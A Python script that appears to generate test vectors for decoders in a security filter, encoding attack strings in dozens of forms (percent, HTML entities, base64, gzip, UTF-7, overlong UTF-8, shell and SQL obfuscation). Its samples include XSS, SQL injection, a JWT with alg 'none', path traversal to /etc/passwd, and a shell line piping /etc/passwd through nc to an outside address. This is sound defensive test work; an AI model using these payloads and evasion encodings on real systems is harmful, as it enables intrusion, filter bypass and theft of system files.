"""Writes the views' vectors: what another encoder makes of a text, and the text that the view must make of it again.

    python vectors/views/generate.py      (needs brotli and zstandard from PyPI)

``input`` and ``output`` are text, or ``input_b64`` and ``output_b64`` where they are not. ``output`` is null where the
view must see nothing in it.
"""

from __future__ import annotations

import base64
import gzip
import html
import json
import quopri
import zlib
from pathlib import Path
from urllib.parse import quote, quote_plus

import brotli  # type: ignore[import-not-found]
import zstandard  # type: ignore[import-not-found]

XSS = "<script>alert('1')</script>"
SQL = "1' UNION SELECT name, password FROM users-- "
SHELL = "; cat /etc/passwd | nc 203.0.113.9 4444"
#: In base64 it holds both `+` and `/`.
SIGNS = "<x>??>>~~ÿÿ</x>"
LONG = f"{XSS} and then {SQL} and then {SHELL}"

COOKIE = "<script>alert(document.cookie)</script>"

Case = tuple[str, "str | bytes", "str | bytes | None"]


def every(text: str, form: str) -> str:
    """Each character by its number."""
    return "".join(form.format(ord(character)) for character in text)


def full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def overlong(text: str, size: int) -> bytes:
    """UTF-8 that takes more bytes than it needs (forbidden by RFC 3629 section 3)."""
    lead = {2: 0xC0, 3: 0xE0, 4: 0xF0}[size]
    out = bytearray()
    for byte in text.encode():
        shifts = range(6 * (size - 1), -1, -6)
        parts = [byte >> shift & 0x3F for shift in shifts]
        out += bytes([lead | parts[0], *(0x80 | part for part in parts[1:])])
    return bytes(out)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def shifted(text: str) -> str:
    """All of it in one run of UTF-7 (RFC 2152)."""
    return "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-"


def deflate(text: str) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(text.encode()) + packer.flush()


def token(*parts: str) -> str:
    return ".".join(base64.urlsafe_b64encode(part.encode()).decode().rstrip("=") for part in parts)


HEADER, CLAIMS = '{"alg":"none","typ":"JWT"}', '{"sub":"x\' or 1=1--","admin":true}'

VIEWS: dict[str, list[Case]] = {
    "percent": [
        ("urllib.parse.quote", quote(XSS), XSS),
        ("every byte, lower case", every(SQL, "%{:02x}"), SQL),
        ("encoded twice, decoded once", quote(quote(XSS)), quote(XSS)),
        ("%u of IIS", every(XSS, "%u{:04x}"), XSS),
        ("%u beyond ASCII", "%u2028x", "\u2028x"),
        ("broken escapes stay", "100%, %4 %zz %3Cb", "100%, %4 %zz <b"),
        ("no escape", "100% sure", None),
    ],
    "plus": [
        ("urllib.parse.quote_plus, still percent-encoded", "1'+or+1=1", "1' or 1=1"),
        ("beside real spaces a plus is a plus", "1 + 1", None),
        ("in quote_plus of SQL", quote_plus("a b").replace("%20", "+"), "a b"),
    ],
    "html": [
        ("html.escape", html.escape(XSS), XSS),
        ("decimal", every(XSS, "&#{};"), XSS),
        ("hexadecimal", every(XSS, "&#x{:x};"), XSS),
        ("hexadecimal, capital X, leading zeros", every("<svg>", "&#X{:06X};"), "<svg>"),
        ("decimal without semicolons", "&#60script&#62", "<script>"),
        ("named without semicolons", "&ltscript&gt", "<script>"),
        ("names of signs", "javascript&colon;alert&lpar;1&rpar;", "javascript:alert(1)"),
        ("names that break words", "java&Tab;script&NewLine;:", "java\tscript\n:"),
        ("no reference", "fish & chips", None),
    ],
    "escapes": [
        ("JSON, json.dumps", json.dumps("\u003cé\u2028")[1:-1], "<é\u2028"),
        ("JavaScript \\x", every(XSS, "\\x{:02x}"), XSS),
        ("JavaScript \\u", every(XSS, "\\u{:04x}"), XSS),
        ("JavaScript \\u{}", every(XSS, "\\u{{{:x}}}"), XSS),
        ("a pair of surrogates", "\\ud835\\udc9e", "\U0001d49e"),
        ("octal", every("<svg>", "\\{:03o}"), "<svg>"),
        ("octal, short", "\\74b\\76", "<b>"),
        ("Python \\U", every("<svg>", "\\U{:08x}"), "<svg>"),
        ("quotes and letters", "it\\'s \\\"a\\\" \\/ \\a", "it's \"a\" / a"),
        ("lines", "a\\r\\nb\\tc", "a\r\nb\tc"),
        ("no backslash", "plain", None),
    ],
    "css": [
        ("six digits", every("expression(", "\\{:06x}"), "expression("),
        ("short, ended by a space", "\\65 xpression(alert(1))", "expression(alert(1))"),
        ("a url", "u\\72 l(javascript:alert(1))", "url(javascript:alert(1))"),
        ("no escape", "a\\zb", None),
    ],
    "fold": [
        ("full width", full_width(XSS), XSS),
        ("zero width", "<scr\u200bipt>al\u2060ert(1)\ufeff", "<script>alert(1)"),
        ("soft hyphen", "uni\u00adon sel\u00adect", "union select"),
        ("bidirectional marks", "\u202eunion\u202c select", "union select"),
        ("variation selectors and tags", "sel\ufe0fect\U000e0041", "select"),
        ("combining", "s\u0336e\u0336l\u0336ect", "select"),
        ("look-alikes", "sеlесt", "select"),
        ("mathematical letters", "<\U0001d4c8cript>", "<script>"),
        ("circled letters", "\u24e4nion", "union"),
        ("typographer's quotes", "\u2019 or 1=1", "' or 1=1"),
        ("ideographic space", "union\u3000select", "union select"),
        ("other scripts are themselves", "привет", None),
        ("no other script", "plain", None),
    ],
    "overlong": [
        ("two bytes", overlong(XSS, 2), XSS),
        ("three bytes", overlong(XSS, 3), XSS),
        ("four bytes", overlong(XSS, 4), XSS),
        ("dots and slashes among ASCII", b"\xc0\xae\xc0\xae\xc0\xafetc\xc0\xafpasswd", "../etc/passwd"),
        ("the unchecked tail of IIS", b"\xc0\x2e\xc0\x2e/etc", "../etc"),
        ("shortest form", "é€😀", None),
    ],
    "utf-16": [
        ("little endian", XSS.encode("utf-16-le"), XSS),
        ("big endian", XSS.encode("utf-16-be"), XSS),
        ("with a mark", XSS.encode("utf-16"), XSS),
        ("with a mark, big endian", b"\xfe\xff" + "né <b>".encode("utf-16-be"), "né <b>"),
        ("plain", XSS, None),
    ],
    "nul": [
        ("NUL in words", "<scr\0ipt>al\0ert(1)</scr\0ipt>", "<script>alert(1)</script>"),
        ("controls in words", "java\x01scr\x1fipt\x7f:alert(1)", "javascript:alert(1)"),
        ("white space stays", "a\tb\r\nc", None),
    ],
    "utf-7": [
        ("codecs.utf_7", "..\\~x".encode("utf-7").decode(), "..\\~x"),
        ("every sign shifted", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<script>alert(1)</script>"),
        ("without the closing hyphen", "+ADw script", "< script"),
        ("a run as long as it likes", shifted(COOKIE), COOKIE),
        ("a sum", "1+A and 2+B", None),
    ],
    "quoted-printable": [
        ("quopri", quopri.encodestring(b"=<a>=\xc3\xa9").decode(), b"=<a>=\xc3\xa9"),
        ("every byte", every(XSS, "={:02X}"), XSS),
        ("soft breaks", "<scr=\r\nipt>al=\nert(1)", "<script>alert(1)"),
        ("a form's pair", "a=10", None),
    ],
    "token": [
        ("header and claims, a line each", token(HEADER, CLAIMS) + ".", f"{HEADER}\n{CLAIMS}\n"),
        ("two in a text", f"{token(HEADER, CLAIMS)}. {token(HEADER, CLAIMS)}.", f"{HEADER}\n{CLAIMS}\n" * 2),
        ("after a scheme", f"Bearer {token(HEADER, CLAIMS)}.c2ln", f"{HEADER}\n{CLAIMS}\n"),
        ("a sentence", "eyJ is how they begin. All of them.", None),
    ],
    "base64": [
        ("strict", b64(XSS), XSS),
        ("without padding", b64(SQL).rstrip("="), SQL),
        ("the alphabet of URLs", base64.urlsafe_b64encode(SIGNS.encode()).decode(), SIGNS),
        ("lines (RFC 2045)", base64.encodebytes(LONG.encode()).decode(), LONG),
        ("Node: signs between", ".".join(b64(XSS)[i : i + 12] for i in range(0, 36, 12)), XSS),
        ("Node: both alphabets", b64(SIGNS).replace("+", "-", 1), SIGNS),
        ("a run inside a sentence", f"see {b64(XSS)} there", f"{XSS}\n"),
        ("words", "internationalisation", None),
    ],
    "hex": [
        ("bytes.hex", XSS.encode().hex(), XSS),
        ("upper case", XSS.encode().hex().upper(), XSS),
        ("MySQL's 0x", "0x" + SQL.encode().hex(), SQL),
        ("\\x before each", every(XSS, "\\x{:02x}"), XSS),
        ("0x before each", ", ".join(f"0x{b:02x}" for b in XSS.encode()), XSS),
        ("colons", XSS.encode().hex(":"), XSS),
        ("an id of eight digits", "50272622", None),
        ("full width inside", full_width("<svg>").encode().hex(), full_width("<svg>")),
        ("a number", "20240131", None),
    ],
    "gzip": [("gzip.compress", gzip.compress(LONG.encode(), mtime=0), LONG),
             ("its checksum cut off", gzip.compress(LONG.encode(), mtime=0)[:-8], LONG), ("plain", XSS, None)],
    "zlib": [("zlib.compress", zlib.compress(LONG.encode()), LONG),
             ("stored", zlib.compress(LONG.encode(), 0), LONG), ("plain", XSS, None)],
    "deflate": [("zlib, raw", deflate(LONG), LONG), ("plain", XSS, None)],
    "zstd": [("zstandard", zstandard.compress(LONG.encode()), LONG), ("plain", XSS, None)],
    "brotli": [("brotli", brotli.compress(LONG.encode()), LONG), ("plain", XSS, None)],
    "comments": [
        ("SQL", "1'/**/union/*x*/select", "1' union select"),
        ("MySQL's, that are run", "1'/*!50000union*/select", "1' union select"),
        ("left open", "1' or 1=1/* the rest", "1' or 1=1 "),
        ("markup", "<scr<!-- x -->ipt>", "<script>"),
        ("no comment", "2 * 3 / 4", None),
    ],
    "shell": [
        ("quotes in words", "c'a't /et\"c\"/pass\\wd", "cat /etc/passwd"),
        ("$IFS", "cat$IFS/etc/passwd", "cat /etc/passwd"),
        ("${IFS} and $IFS$9", "cat${IFS}/etc;id$IFS$9-a", "cat /etc;id -a"),
        ("empty variables", "c$@at /etc/pa$1sswd", "cat /etc/passwd"),
        ("carets of cmd.exe", "p^ing x", "ping x"),
        ("empty commands", "w``hoami", "whoami"),
        ("an apostrophe quotes nothing", "don't you think it's theirs", None),
        ("no mark", "cat file", None),
    ],
    "concat": [
        ("JavaScript", "window['al'+'ert'](1)", "window['alert'](1)"),
        ("PHP", '"sys"."tem"', '"system"'),
        ("SQL", "'uni' || 'on'", "'union'"),
        ("no joint", "'a' 'b'", None),
    ],
}  # fmt: skip


def field(name: str, value: str | bytes | None) -> dict[str, str | None]:
    """A text as it is, bytes in base64."""
    if isinstance(value, bytes):
        try:
            if value.decode().isprintable():
                return {name: value.decode()}
        except UnicodeDecodeError:
            pass
        return {f"{name}_b64": base64.b64encode(value).decode()}
    return {name: value}


def main() -> None:
    for view, cases in VIEWS.items():
        rows = [{"name": name, **field("input", made), **field("output", text)} for name, made, text in cases]
        text = json.dumps({"cases": rows}, ensure_ascii=True, indent=1)
        (Path(__file__).parent / f"{view}.json").write_text(text + "\n", encoding="ascii")


if __name__ == "__main__":
    main()
